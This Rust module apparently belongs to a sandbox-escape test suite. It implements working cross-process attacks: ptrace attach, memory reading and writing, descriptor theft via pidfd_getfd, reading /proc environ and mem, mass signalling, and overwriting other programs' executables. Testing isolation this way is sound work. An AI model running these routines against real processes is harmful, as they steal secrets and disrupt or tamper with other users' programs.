//! Processes of the host, and the guest.
//!
//! Arguments: the victim's process id, the address of its secret, its length, its open file;
//! `not-in=NAMESPACE` where every process that can be named may be attacked, unless it is in that one.

use std::fs;
use std::io::{Read, Seek, SeekFrom};
use std::os::fd::AsRawFd;
use std::path::Path;

use super::out::{argument, note, number, reached, read, result, succeeded};
use super::sys::{self, Arg, call};

/// Before the name of the host's namespace of processes.
pub const NOT_IN: &str = "not-in=";

/// By the ids of the catalogue.
pub const ATTACKS: super::Table = &[
    ("PR01", list),
    ("PR02", scan),
    ("PR03", send_signals),
    ("PR04", trace),
    ("PR05", read_and_write_memory),
    ("PR06", take_descriptors),
    ("PR07", read_proc),
    ("PR08", change_scheduling),
    ("PR09", attack_guest),
    ("PR09-guest", attack_own_guest),
    ("PR10", leave_the_tree),
    ("PR11", overwrite_program),
];

/// The victim, and inside also every low number: what it would be called in a namespace.
fn targets(arguments: &[String]) -> Vec<i64> {
    let victim = number(arguments, 0);
    let others = if may_attack_all(arguments) { 1..65 } else { 0..0 };
    let own = i64::from(std::process::id());
    std::iter::once(victim)
        .chain(others)
        .filter(|pid| *pid > 0 && *pid != own)
        .collect()
}

/// Where the wall has no namespace of processes, or lost it, low numbers are the host's own processes: nothing but
/// the victim is ever touched there.
fn may_attack_all(arguments: &[String]) -> bool {
    let hosts = argument(arguments, 4).strip_prefix(NOT_IN);
    let own = fs::read_link("/proc/self/ns/pid");
    hosts.is_some_and(|hosts| own.is_ok_and(|own| own != Path::new(hosts)))
}

/// Of the victim's secret.
fn address(arguments: &[String]) -> u64 {
    u64::try_from(number(arguments, 1)).unwrap_or(0)
}

fn list(_: &[String]) {
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        if let Ok(line) = fs::read(entry.path().join("cmdline")) {
            read(&line);
        }
    }
}

/// Without procfs: niceness 13 and the idle class of disk access are the victim's mark.
fn scan(arguments: &[String]) {
    const PROCESS: i64 = 0;
    const IO_PROCESS: i64 = 1;
    const IDLE: i64 = 3;
    let victim = number(arguments, 0);
    let last = if victim > 0 { victim } else { 1 << 16 };
    for pid in (1..=32768).chain(std::iter::once(last)) {
        // The raw call returns 20 minus the niceness.
        let nice = call(libc::SYS_getpriority, &mut [Arg::Int(PROCESS), Arg::Int(pid)]);
        if nice.is_ok_and(|raw| raw == 20 - 13) {
            let class =
                call(libc::SYS_ioprio_get, &mut [Arg::Int(IO_PROCESS), Arg::Int(pid)]).map(|raw| raw >> 13);
            if class.is_ok_and(|class| class == IDLE) {
                reached(format!("process {pid} has the victim's marks"));
            }
        }
    }
}

fn send_signals(arguments: &[String]) {
    let usr1 = i64::from(libc::SIGUSR1);
    for pid in targets(arguments) {
        if !may_attack_all(arguments) || pid == number(arguments, 0) {
            succeeded(
                format!("signal 0 to {pid}"),
                &call(libc::SYS_kill, &mut [Arg::Int(pid), Arg::Int(0)]),
            );
        }
        for number in [libc::SYS_tgkill, libc::SYS_kill] {
            let mut by_thread = [Arg::Int(pid), Arg::Int(pid), Arg::Int(usr1)];
            let mut by_process = [Arg::Int(pid), Arg::Int(usr1)];
            let chosen: &mut [Arg<'_>] = if number == libc::SYS_kill {
                &mut by_process
            } else {
                &mut by_thread
            };
            note(format!("signal to {pid}: {:?}", call(number, chosen)));
        }
    }
    if may_attack_all(arguments) {
        sys::ignore(libc::SIGUSR1);
        note(format!(
            "to all: {:?}",
            call(libc::SYS_kill, &mut [Arg::Int(-1), Arg::Int(usr1)])
        ));
    }
}

fn trace(arguments: &[String]) {
    const SEIZE: i64 = 0x4206;
    const ATTACH: i64 = 16;
    for pid in targets(arguments) {
        for request in [SEIZE, ATTACH] {
            let mut call_arguments = [Arg::Int(request), Arg::Int(pid), Arg::Int(0), Arg::Int(0)];
            let traced = call(libc::SYS_ptrace, &mut call_arguments);
            // The own children of a shell may be traced: only a foreign process counts.
            if traced.is_ok() && (pid == number(arguments, 0) || pid == 1) {
                reached(format!("ptrace {request:#x} of {pid}"));
            }
            note(format!("ptrace {request:#x} of {pid}: {traced:?}"));
        }
    }
}

fn read_and_write_memory(arguments: &[String]) {
    let (address, length) = (address(arguments), number(arguments, 2));
    let mut buffer = vec![0_u8; usize::try_from(length).unwrap_or(0)];
    for pid in targets(arguments) {
        let mut local = sys::vector(buffer.as_mut_ptr() as u64, buffer.len());
        let mut remote = sys::vector(address, buffer.len());
        let mut call_arguments = [
            Arg::Int(pid),
            Arg::Bytes(&mut local),
            Arg::Int(1),
            Arg::Bytes(&mut remote),
            Arg::Int(1),
            Arg::Int(0),
        ];
        match call(libc::SYS_process_vm_readv, &mut call_arguments) {
            Ok(_) => read(&buffer),
            Err(error) => note(format!("process_vm_readv {pid}: {error}")),
        }
        let mut written = *b"overwritten";
        let mut local = sys::vector(written.as_mut_ptr() as u64, written.len());
        let mut remote = sys::vector(address, written.len());
        let mut call_arguments = [
            Arg::Int(pid),
            Arg::Bytes(&mut local),
            Arg::Int(1),
            Arg::Bytes(&mut remote),
            Arg::Int(1),
            Arg::Int(0),
        ];
        note(format!(
            "process_vm_writev {pid}: {:?}",
            call(libc::SYS_process_vm_writev, &mut call_arguments)
        ));
    }
}

fn take_descriptors(arguments: &[String]) {
    for pid in targets(arguments) {
        let Ok(process) = call(libc::SYS_pidfd_open, &mut [Arg::Int(pid), Arg::Int(0)]) else {
            note(format!("pidfd_open {pid} failed"));
            continue;
        };
        for descriptor in 0..32 {
            let mut call_arguments = [Arg::Int(process), Arg::Int(descriptor), Arg::Int(0)];
            let taken = call(libc::SYS_pidfd_getfd, &mut call_arguments);
            let Some(taken) = taken.ok().and_then(sys::own) else {
                continue;
            };
            let path = format!("/proc/self/fd/{}", taken.as_raw_fd());
            // Others could let a reader wait for ever.
            if fs::metadata(&path).is_ok_and(|found| found.is_file()) {
                result("taken", fs::read(&path));
            }
        }
    }
}

fn memory_of(pid: i64, address: u64, length: usize) -> std::io::Result<Vec<u8>> {
    let mut memory = fs::File::open(format!("/proc/{pid}/mem"))?;
    memory.seek(SeekFrom::Start(address))?;
    let mut buffer = vec![0; length];
    memory.read_exact(&mut buffer)?;
    Ok(buffer)
}

fn read_proc(arguments: &[String]) {
    let length = usize::try_from(number(arguments, 2)).unwrap_or(0);
    for pid in targets(arguments) {
        for file in ["environ", "auxv", "maps", "cmdline"] {
            result(
                format!("/proc/{pid}/{file}"),
                fs::read(format!("/proc/{pid}/{file}")),
            );
        }
        result("mem", memory_of(pid, address(arguments), length));
    }
}

fn change_scheduling(arguments: &[String]) {
    for pid in targets(arguments) {
        let nice = call(
            libc::SYS_setpriority,
            &mut [Arg::Int(0), Arg::Int(pid), Arg::Int(19)],
        );
        note(format!("setpriority {pid}: {nice:?}"));
        let mut mask = [1_u8; 8];
        let mut call_arguments = [Arg::Int(pid), Arg::Int(8), Arg::Bytes(&mut mask)];
        note(format!(
            "sched_setaffinity {pid}: {:?}",
            call(libc::SYS_sched_setaffinity, &mut call_arguments)
        ));
        let mut limit = [0_u8; 16];
        limit[..8].copy_from_slice(&77_u64.to_ne_bytes());
        limit[8..].copy_from_slice(&78_u64.to_ne_bytes());
        let core = i64::from(libc::RLIMIT_CORE);
        let mut call_arguments = [Arg::Int(pid), Arg::Int(core), Arg::Bytes(&mut limit), Arg::Null];
        note(format!(
            "prlimit {pid}: {:?}",
            call(libc::SYS_prlimit64, &mut call_arguments)
        ));
    }
}

/// PID 1 of the sandbox: everything that a process of the same user may do to another.
fn attack_guest(arguments: &[String]) {
    let guest = number(arguments, 0).max(1);
    let prefix = [guest.to_string(), "0".into(), "16".into()];
    trace(&prefix);
    for file in ["environ", "maps", "auxv", "stack", "syscall", "io"] {
        let content = fs::read(format!("/proc/{guest}/{file}"));
        if content.as_ref().is_ok_and(|bytes| !bytes.is_empty()) {
            reached(format!("/proc/{guest}/{file} can be read"));
        }
    }
    if let Ok(descriptors) = fs::read_dir(format!("/proc/{guest}/fd")) {
        for descriptor in descriptors.flatten() {
            reached(format!("{} of the guest", descriptor.path().display()));
        }
    }
    succeeded("its memory", &fs::File::open(format!("/proc/{guest}/mem")));
    succeeded(
        "its memory, to write",
        &fs::OpenOptions::new()
            .write(true)
            .open(format!("/proc/{guest}/mem")),
    );
    succeeded("its program", &fs::File::open(format!("/proc/{guest}/exe")));
    succeeded("its root", &fs::read_dir(format!("/proc/{guest}/root/")));
    if let Ok(process) = call(libc::SYS_pidfd_open, &mut [Arg::Int(guest), Arg::Int(0)]) {
        for descriptor in 0..16 {
            let mut call_arguments = [Arg::Int(process), Arg::Int(descriptor), Arg::Int(0)];
            succeeded(
                format!("descriptor {descriptor} of the guest"),
                &call(libc::SYS_pidfd_getfd, &mut call_arguments),
            );
        }
    }
    // Last, because it may succeed: nothing after this line would run.
    for signal in [
        libc::SIGSTOP,
        libc::SIGTERM,
        libc::SIGHUP,
        libc::SIGSEGV,
        libc::SIGSYS,
        libc::SIGKILL,
    ] {
        note(format!(
            "signal {signal}: {:?}",
            call(
                libc::SYS_kill,
                &mut [Arg::Int(guest), Arg::Int(i64::from(signal))]
            )
        ));
    }
}

/// Whoever started this program: the guest, under whatever number.
fn attack_own_guest(_: &[String]) {
    match call(libc::SYS_getppid, &mut []) {
        Ok(parent) if parent > 0 => attack_guest(&[parent.to_string()]),
        other => super::out::give_up(format!("no parent that can be named: {other:?}")),
    }
}

/// A child of a child that has ended: whoever takes it in must be whoever started this program.
fn leave_the_tree(_: &[String]) {
    let Ok(starter) = call(libc::SYS_getppid, &mut []) else {
        super::out::give_up("no parent");
    };
    let Ok((mut reader, writer)) = std::io::pipe() else {
        super::out::give_up("no pipe");
    };
    let child = sys::fork(|| {
        let own = i64::from(std::process::id());
        let _ = sys::fork(|| {
            let adopter = || call(libc::SYS_getppid, &mut []).unwrap_or(-1);
            while adopter() == own {
                std::thread::sleep(std::time::Duration::from_millis(1));
            }
            let mut writer = &writer;
            let _ = std::io::Write::write_all(&mut writer, adopter().to_string().as_bytes());
        });
    });
    drop(writer);
    note(format!("{:?}", child.and_then(sys::wait)));
    let mut adopter = String::new();
    let told = reader.read_to_string(&mut adopter);
    match adopter.parse::<i64>() {
        Ok(adopter) if adopter == starter => note("the orphan stays with whoever started this"),
        Ok(adopter) => reached(format!("the orphan went to {adopter}, not to {starter}")),
        Err(_) => super::out::give_up(format!("the orphan said {adopter:?}, {told:?}")),
    }
}

/// The programs that run beside the attack.
fn overwrite_program(arguments: &[String]) {
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let program = entry.path().join("exe");
        let own = entry.file_name().to_string_lossy() == std::process::id().to_string();
        let chosen = arguments.is_empty() || entry.file_name().to_string_lossy() == argument(arguments, 0);
        if chosen && !own && entry.file_name() != "self" && entry.file_name() != "thread-self" {
            let opened = fs::OpenOptions::new().write(true).open(&program);
            match &opened {
                Ok(_) => reached(format!("{} can be written", program.display())),
                Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {
                    reached(format!("{} can be written as soon as it ends", program.display()));
                }
                Err(error) => note(format!("{}: {error}", program.display())),
            }
            succeeded(
                format!("a link to {}", program.display()),
                &fs::hard_link(&program, "linked-program"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::canary::everybody_elsewhere;

    fn arguments(place: &str) -> Vec<String> {
        ["7", "0", "0", "0", place].map(str::to_owned).to_vec()
    }

    #[test]
    fn among_the_hosts_processes_nothing_but_the_victim_is_touched() {
        assert_eq!(targets(&arguments(&everybody_elsewhere())), [7]);
        assert_eq!(targets(&arguments("")), [7]);
        assert!(targets(&arguments("not-in=pid:[1]")).len() > 60);
    }
}
